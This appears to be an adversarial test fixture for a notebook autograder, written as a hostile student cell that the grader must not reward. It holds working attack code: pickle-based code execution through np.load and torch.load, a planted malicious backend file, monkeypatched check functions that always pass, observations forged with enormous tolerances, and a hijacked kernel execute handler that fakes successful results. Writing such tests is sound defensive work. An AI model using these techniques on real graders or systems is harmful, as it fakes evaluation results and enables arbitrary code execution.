# ruff: noqa
# A hostile cell: arbitrary code in the student's process, reached by the routes a deny-list
# cannot see, then used on everything in reach: the check helpers, NumPy and torch, IPython's
# hooks, the kernel's own execute handler and session. The answers stay stubs: whatever this
# process says, it must score no more than the blank release.
import ast
import ctypes
import functools
import io
import json
import pickle
import string

import numpy as np
import torch

import vgcourse.grading as grading

# Routes to arbitrary code that need no "dangerous" name in the source.
getter = string.Formatter().get_field("0.__class__.__base__", [grading], {})[0]
functools.update_wrapper(grading, type("W", (), {"__module__": "x", "__name__": "y",
                                                  "__qualname__": "y", "__doc__": "",
                                                  "__dict__": {}}))
libc = np.ctypeslib.ctypes.CDLL(None)


class Payload:
    def __reduce__(self):
        return (exec, ("import builtins; builtins.PWNED_BY_PICKLE = True",))


buf = io.BytesIO()
np.save(buf, np.array([Payload()], dtype=object), allow_pickle=True)
buf.seek(0)
np.load(buf, allow_pickle=True)
tbuf = io.BytesIO()
torch.save(Payload(), tbuf)
tbuf.seek(0)
torch.load(tbuf, weights_only=False)
with open("/home/student/mpl_evil_backend.py", "w") as f:
    f.write("import builtins\nbuiltins.PWNED_BY_BACKEND = True\n")

# What the old trust model relied on, rewritten: the checks and comparisons always pass.
def passes(*args, **kwargs):
    return None

for name in ("check_close", "check_equal", "check_finite", "check_shape", "check_type"):
    setattr(grading, name, passes)
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, **kwargs: np.ones(np.shape(a), dtype=bool)
torch.allclose = lambda *args, **kwargs: True
grading.compare = lambda *args, **kwargs: None
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
type(ip).showtraceback = lambda *args, **kwargs: None

# The observations themselves: every observe() now claims a huge tolerance and a plausible value.
real_publish = grading._publish


def forged(payload):
    payload = dict(payload, rtol=1e300, atol=1e300, expected=payload.get("value"))
    real_publish(payload)


grading._publish = forged

# The kernel's execute handler: a test cell is not run at all; the reply says "ok" and the
# kernel publishes, for every observe() call in the cell, a forged observation of the right
# name, and a partial-credit execute_result.
kernel = ip.kernel
honest_execute = kernel.shell_handlers["execute_request"]


def names_observed(code):
    out = []
    for node in ast.walk(ast.parse(code)):
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "observe":
            arg = node.args[0] if node.args else None
            if isinstance(arg, ast.Constant):
                out.append(arg.value)
    return out


async def lying_execute(stream, ident, parent):
    code = parent["content"].get("code", "")
    if "observe(" not in code:
        return await honest_execute(stream, ident, parent)
    kernel.set_parent(ident, parent, "shell")
    for name in names_observed(code):
        for guess in (0.5, 0.25, 1.0):
            kernel.session.send(kernel.iopub_socket, "display_data",
                                {"data": {grading.OBSERVATION_MIME: {
                                    "name": name, "value": {"type": "float", "value": guess},
                                    "rtol": 1e300, "atol": 1e300}}, "metadata": {}},
                                parent=parent, ident=kernel._topic("display_data"))
    kernel.session.send(kernel.iopub_socket, "execute_result",
                        {"data": {"text/plain": "2.0"}, "metadata": {},
                         "execution_count": 1}, parent=parent)
    kernel.session.send(stream, "execute_reply",
                        {"status": "ok", "execution_count": 1, "user_expressions": {},
                         "payload": []}, parent, ident)


kernel.shell_handlers["execute_request"] = lying_execute
print("kernel attack installed:", getter is not None, hasattr(__builtins__, "PWNED_BY_PICKLE")
      or "PWNED_BY_PICKLE" in dir(__import__("builtins")))
